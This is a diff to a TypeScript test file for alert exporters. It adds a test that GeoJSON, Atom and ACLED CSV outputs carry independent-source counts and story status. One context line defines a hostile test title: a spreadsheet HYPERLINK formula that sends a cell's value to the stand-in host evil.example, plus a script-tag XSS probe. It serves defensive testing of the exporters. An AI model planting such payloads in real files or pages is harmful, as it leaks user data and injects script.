@@ -6,6 +6,31 @@ import { makeAlert } from './alert-fixtures.js';
 
 const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click") <script>alert(1)</script> & "quoted", line\nbreak \u0001';
 
+describe('independent sources and story status in the exports', () => {
+  it('GeoJSON, Atom and the ACLED notes carry the sourcing and the status when the alert has them', () => {
+    const base = makeAlert();
+    const alert = {
+      ...base,
+      story: {
+        ...base.story,
+        sourceGroups: [
+          { kind: 'agency' as const, origin: 'AFP', outlets: ['RFI', 'France 24'], reports: 2 },
+          { kind: 'agency' as const, origin: 'Reuters', outlets: [], reports: 1 },
+        ],
+        sourcing: '3 reports from 2 independent sources (AFP via RFI and France 24; Reuters)',
+        status: 'confirmed' as const,
+      },
+    };
+    expect(alertsToGeoJSON([alert]).features[0]?.properties).toMatchObject({ independent_sources: 2, sourcing: alert.story.sourcing, status: 'confirmed' });
+    expect(alertsToGeoJSON([base]).features[0]?.properties).toMatchObject({ independent_sources: null, status: null });
+    const atom = alertsToAtom([alert], { selfUrl: 'http://h/feeds/alerts.atom' });
+    expect(atom).toContain('Sourcing: 3 reports from 2 independent sources (AFP via RFI and France 24; Reuters)');
+    expect(atom).toContain('Status: confirmed');
+    const [header, row] = parseCsv(alertsToAcledCsv([alert]));
+    expect(row?.[header?.indexOf('notes') ?? -1]).toContain('confirmed; 3 reports from 2 independent sources');
+  });
+});
+
 describe('GeoJSON export', () => {
   it('writes one RFC 7946 point per alert, longitude first, at the most precise place', () => {
     const fc = alertsToGeoJSON([makeAlert()]);
